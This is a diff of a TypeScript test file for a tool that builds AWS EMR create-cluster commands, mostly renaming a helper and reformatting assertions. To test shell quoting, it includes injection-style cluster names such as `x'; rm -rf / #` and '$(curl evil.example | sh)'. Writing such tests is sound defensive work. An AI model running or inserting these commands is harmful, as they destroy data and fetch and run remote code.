@@ -73,7 +73,7 @@ function tokenize(src: string): string[] {
 }
 
 /** The value after an option in an argument vector. */
-function valueOf(argv: string[], option: string): string {
+function optionValue(argv: string[], option: string): string {
   const i = argv.indexOf(option);
   expect(i, `${option} missing`).toBeGreaterThan(0);
   return argv[i + 1] as string;
@@ -92,7 +92,7 @@ describe('aws emr create-cluster', () => {
     `x'; rm -rf / #`,
     '$(curl evil.example | sh)',
     '`id`',
-    "a'b\"c\\d",
+    'a\'b"c\\d',
     'name with spaces && more || stuff > /tmp/f',
     '-leading-dash',
     'tab\u3000wide spaces and 한글 이름',
@@ -103,7 +103,7 @@ describe('aws emr create-cluster', () => {
       const c = base({ name });
       const { argv, command } = createClusterCommand(c);
       expect(tokenize(command)).toEqual(argv);
-      expect(valueOf(argv, '--name')).toBe(name);
+      expect(optionValue(argv, '--name')).toBe(name);
     });
   }
 
@@ -129,10 +129,10 @@ describe('aws emr create-cluster', () => {
     const words = tokenize(command);
     expect(words).toEqual(argv);
     expect(words.slice(0, 3)).toEqual(['aws', 'emr', 'create-cluster']);
-    expect(valueOf(words, '--release-label')).toBe('emr-7.12.0');
+    expect(optionValue(words, '--release-label')).toBe('emr-7.12.0');
     expect(words.slice(words.indexOf('--applications') + 1, words.indexOf('--applications') + 3)).toEqual(['Name=Hadoop', 'Name=Spark']);
     // The instance groups, read back from the command, describe the cluster that was written.
-    expect(JSON.parse(valueOf(words, '--instance-groups'))).toEqual([
+    expect(JSON.parse(optionValue(words, '--instance-groups'))).toEqual([
       { Name: 'Primary', InstanceGroupType: 'MASTER', InstanceType: 'm5.xlarge', InstanceCount: 1, Market: 'ON_DEMAND' },
       {
         Name: 'Core',
@@ -145,11 +145,19 @@ describe('aws emr create-cluster', () => {
       { Name: 'Task 1', InstanceGroupType: 'TASK', InstanceType: 'm5.2xlarge', InstanceCount: 10, Market: 'SPOT' },
     ]);
     // 90 minutes idle = 5,400 s.
-    expect(valueOf(words, '--auto-termination-policy')).toBe('IdleTimeout=5400');
-    expect(JSON.parse(valueOf(words, '--managed-scaling-policy'))).toEqual({ ComputeLimits: { UnitType: 'Instances', MinimumCapacityUnits: 4, MaximumCapacityUnits: 20 } });
-    const configurations = JSON.parse(valueOf(words, '--configurations')) as Array<{ Classification: string; Properties: Record<string, string> }>;
+    expect(optionValue(words, '--auto-termination-policy')).toBe('IdleTimeout=5400');
+    expect(JSON.parse(optionValue(words, '--managed-scaling-policy'))).toEqual({
+      ComputeLimits: { UnitType: 'Instances', MinimumCapacityUnits: 4, MaximumCapacityUnits: 20 },
+    });
+    const configurations = JSON.parse(optionValue(words, '--configurations')) as Array<{
+      Classification: string;
+      Properties: Record<string, string>;
+    }>;
     const byName = Object.fromEntries(configurations.map((c) => [c.Classification, c.Properties]));
-    expect(byName['yarn-site']).toEqual({ 'yarn.node-labels.enabled': 'true', 'yarn.node-labels.am.default-node-label-expression': 'CORE' });
+    expect(byName['yarn-site']).toEqual({
+      'yarn.node-labels.enabled': 'true',
+      'yarn.node-labels.am.default-node-label-expression': 'CORE',
+    });
     expect(byName['hdfs-site']).toEqual({ 'dfs.replication': '2' });
     // m5.2xlarge: 2 executors × (10,348 MiB + 1,940 MiB) per node — see spark-sizing.test.ts for the arithmetic.
     // 14 nodes × 2 = 28 executors × 4 cores = 112 cores → parallelism 224.
@@ -175,9 +183,15 @@ describe('aws emr create-cluster', () => {
     expect(tokenize(command)).toEqual(argv);
     expect(argv).not.toContain('--instance-groups');
     expect(argv).toContain('--auto-terminate');
-    const json = JSON.parse(valueOf(argv, '--instance-fleets'));
+    const json = JSON.parse(optionValue(argv, '--instance-fleets'));
     expect(json).toEqual(instanceFleetsJson(c));
-    expect(json[0]).toEqual({ Name: 'Primary', InstanceFleetType: 'MASTER', TargetOnDemandCapacity: 3, TargetSpotCapacity: 0, InstanceTypeConfigs: [{ InstanceType: 'm5.xlarge', WeightedCapacity: 1 }] });
+    expect(json[0]).toEqual({
+      Name: 'Primary',
+      InstanceFleetType: 'MASTER',
+      TargetOnDemandCapacity: 3,
+      TargetSpotCapacity: 0,
+      InstanceTypeConfigs: [{ InstanceType: 'm5.xlarge', WeightedCapacity: 1 }],
+    });
     // Weights default to vCPUs: r5.2xlarge 8, m5.4xlarge 16.
     expect(json[1].InstanceTypeConfigs.map((t: { WeightedCapacity: number }) => t.WeightedCapacity)).toEqual([8, 8]);
     expect(json[2]).toMatchObject({
@@ -187,13 +201,22 @@ describe('aws emr create-cluster', () => {
         { InstanceType: 'm5.2xlarge', WeightedCapacity: 8 },
         { InstanceType: 'm5.4xlarge', WeightedCapacity: 16 },
       ],
-      LaunchSpecifications: { SpotSpecification: { AllocationStrategy: 'price-capacity-optimized', TimeoutAction: 'SWITCH_TO_ON_DEMAND', TimeoutDurationMinutes: 60 } },
+      LaunchSpecifications: {
+        SpotSpecification: {
+          AllocationStrategy: 'price-capacity-optimized',
+          TimeoutAction: 'SWITCH_TO_ON_DEMAND',
+          TimeoutDurationMinutes: 60,
+        },
+      },
     });
     expect(instanceGroupsJson(c)).toBeNull();
   });
 
   it('leaves executor sizing to EMR with maximizeResourceAllocation, and writes livy-conf for Livy in cluster mode', () => {
-    const c = base({ spark: { maximizeResourceAllocation: true, submitter: 'livy', deployMode: 'cluster' }, applications: ['Hadoop', 'Spark', 'Livy'] });
+    const c = base({
+      spark: { maximizeResourceAllocation: true, submitter: 'livy', deployMode: 'cluster' },
+      applications: ['Hadoop', 'Spark', 'Livy'],
+    });
     const byName = Object.fromEntries(configurationsJson(c).map((x) => [x.Classification, x.Properties]));
     expect(byName['spark']).toEqual({ maximizeResourceAllocation: 'true' });
     expect(byName['spark-defaults']?.['spark.executor.memory']).toBeUndefined();
@@ -205,7 +228,10 @@ describe('aws emr create-cluster', () => {
 describe('JSON exports round-trip', () => {
   const clusters: Ec2Cluster[] = [
     base({ name: 'x' }, [g('m5.2xlarge', 3, 'spot', { maxSpotPriceUSD: 0.25 })]),
-    fleets(g('m5.xlarge'), fleet(['m5.2xlarge'], 16), { instanceTypes: [{ instanceType: 'm5.2xlarge', weightedCapacity: 2, bidPriceAsPercentageOfOnDemandPrice: 80 }], targetSpotCapacity: 10 }),
+    fleets(g('m5.xlarge'), fleet(['m5.2xlarge'], 16), {
+      instanceTypes: [{ instanceType: 'm5.2xlarge', weightedCapacity: 2, bidPriceAsPercentageOfOnDemandPrice: 80 }],
+      targetSpotCapacity: 10,
+    }),
   ];
   for (const c of clusters) {
     it(`${c.instances.mode}: JSON.parse(JSON.stringify(x)) equals x for every export`, () => {
